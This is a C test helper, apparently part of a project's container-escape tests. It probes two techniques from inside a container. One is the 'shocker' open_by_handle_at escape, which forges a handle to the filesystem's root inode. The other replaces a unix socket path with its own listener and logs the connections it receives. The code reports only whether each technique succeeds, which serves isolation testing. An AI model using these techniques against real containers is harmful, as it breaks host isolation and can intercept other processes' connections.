/* What a root student runs in their own container to try the container escapes of
 * issue 20. Built statically by tests/escape/helper.rs and uploaded over ssh.
 *
 *   probe handle DIR        open_by_handle_at on DIR's own handle, then on the root
 *                           inode of DIR's filesystem (the "shocker" technique: on a
 *                           Docker volume that is the host's filesystem). Prints one
 *                           line each: "own: opened" / "own: denied (errno text)",
 *                           "fsroot: opened, N entries" / "fsroot: denied (...)".
 *   probe listen PATH LOG   replaces PATH with a unix socket of its own, in the
 *                           background, and appends "connection: N bytes" to LOG for
 *                           every connection (N: what the peer sent before it went
 *                           quiet for a second or hung up). Prints "listening" once
 *                           bound.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static int handle_probe(const char *dir) {
    int mount_fd = open(dir, O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) {
        printf("open %s: %s\n", dir, strerror(errno));
        return 1;
    }
    struct file_handle *own = malloc(sizeof *own + MAX_HANDLE_SZ);
    own->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    int fd;
    if (name_to_handle_at(AT_FDCWD, dir, own, &mount_id, 0) != 0) {
        printf("own: denied (name_to_handle_at: %s)\n", strerror(errno));
    } else if ((fd = open_by_handle_at(mount_fd, own, O_RDONLY | O_DIRECTORY)) >= 0) {
        printf("own: opened\n");
        close(fd);
    } else {
        printf("own: denied (%s)\n", strerror(errno));
    }
    /* ext4 and most others: type 1 is FILEID_INO32_GEN, {inode, generation}; the
     * root directory is inode 2, generation 0. */
    struct file_handle *root = malloc(sizeof *root + 8);
    root->handle_bytes = 8;
    root->handle_type = 1;
    unsigned int ino_gen[2] = {2, 0};
    memcpy(root->f_handle, ino_gen, 8);
    fd = open_by_handle_at(mount_fd, root, O_RDONLY | O_DIRECTORY);
    if (fd >= 0) {
        DIR *d = fdopendir(fd);
        int n = 0;
        while (d && readdir(d))
            n++;
        printf("fsroot: opened, %d entries\n", n);
    } else {
        printf("fsroot: denied (%s)\n", strerror(errno));
    }
    return 0;
}

static int listen_probe(const char *path, const char *log) {
    int ready[2];
    if (pipe(ready) != 0)
        return 1;
    pid_t pid = fork();
    if (pid < 0)
        return 1;
    if (pid > 0) {
        close(ready[1]);
        char c;
        if (read(ready[0], &c, 1) == 1) {
            printf("listening\n");
            return 0;
        }
        printf("could not listen\n");
        return 1;
    }
    close(ready[0]);
    setsid();
    int devnull = open("/dev/null", O_RDWR);
    dup2(devnull, 0);
    dup2(devnull, 1);
    dup2(devnull, 2);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
    unlink(path);
    if (bind(fd, (struct sockaddr *)&addr, sizeof addr) != 0 || listen(fd, 16) != 0)
        _exit(1);
    chmod(path, 0600);
    if (write(ready[1], "x", 1) != 1)
        _exit(1);
    close(ready[1]);
    for (;;) {
        int conn = accept(fd, NULL, NULL);
        if (conn < 0)
            continue;
        long total = 0;
        char buf[4096];
        for (;;) {
            struct pollfd p = {.fd = conn, .events = POLLIN};
            if (poll(&p, 1, 1000) <= 0)
                break;
            ssize_t n = read(conn, buf, sizeof buf);
            if (n <= 0)
                break;
            total += n;
        }
        close(conn);
        FILE *f = fopen(log, "a");
        if (f) {
            fprintf(f, "connection: %ld bytes\n", total);
            fclose(f);
        }
    }
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "handle") == 0)
        return handle_probe(argv[2]);
    if (argc == 4 && strcmp(argv[1], "listen") == 0)
        return listen_probe(argv[2], argv[3]);
    fprintf(stderr, "usage: probe handle DIR | probe listen PATH LOG\n");
    return 2;
}
